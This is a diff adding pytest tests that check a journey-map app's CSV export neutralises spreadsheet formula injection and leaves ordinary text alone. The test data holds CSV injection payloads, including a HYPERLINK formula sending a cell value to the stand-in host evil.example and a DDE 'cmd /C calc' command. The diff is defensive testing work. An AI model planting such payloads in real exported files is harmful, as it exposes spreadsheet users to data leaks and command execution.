@@ -16,7 +16,7 @@ from markupsafe import escape
 from pypdf import PdfReader
 
 from flows.i18n import domain
-from flows.model import Author, Item, JourneyMap, Stage
+from flows.model import Author, Item, JourneyMap, Persona, Rating, Stage
 from flows.spec import Lane
 from renderers.examples import example_paths, load_example, stress_map
 from renderers.export import FORMATS, export_map, file_name, render_file
@@ -232,3 +232,48 @@ def test_file_names_come_from_the_title() -> None:
         == "studio-ruchu-forma-dzień-z-życia-klubowiczki.pdf"
     )
     assert file_name(JourneyMap(), "preview") == "journey-map-preview.png"
+
+
+# -- CSV formula injection (OWASP) --------------------------------------------------------
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised() -> None:
+    hostile = [
+        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        "=cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\tindented =1",
+        "\r=1",
+        "- a list item",
+    ]
+    me = Author(id="9", name="=evil()")
+    stage = Stage(name="@stage", pains=[Item(text=text, author=me) for text in hostile])
+    stage.rate(Rating(persona="Ania", score=-1, word="=bad()", author=me))
+    journey_map = JourneyMap(
+        title="CSV", personas=[Persona(name="Ania", author=me)], stages=[stage]
+    )
+    _, *rows = csv_rows(journey_map)
+    pains = [r[4] for r in rows if r[1] == tr("en", "lane.pains")]
+    assert pains == ["'" + text for text in hostile]  # kept whole, behind a quote
+    rating = next(r for r in rows if r[1] == tr("en", "lane.emotion"))
+    assert rating[3] == "-1"  # a plain number cannot run anything: the score stays numeric
+    assert rating[4] == "'=bad()"
+    assert {r[0] for r in rows if r[0]} == {"'@stage"}
+    assert {r[5] for r in rows} == {"'=evil()"}
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or cell == "-1", cell
+
+
+def test_csv_keeps_ordinary_text_as_written() -> None:
+    from renderers.tabular import neutralised
+
+    assert [neutralised(c) for c in ("Kopi = enak", "a-b", "", "3", "-0,5", "+2")] == [
+        "Kopi = enak",
+        "a-b",
+        "",
+        "3",
+        "-0,5",
+        "+2",
+    ]
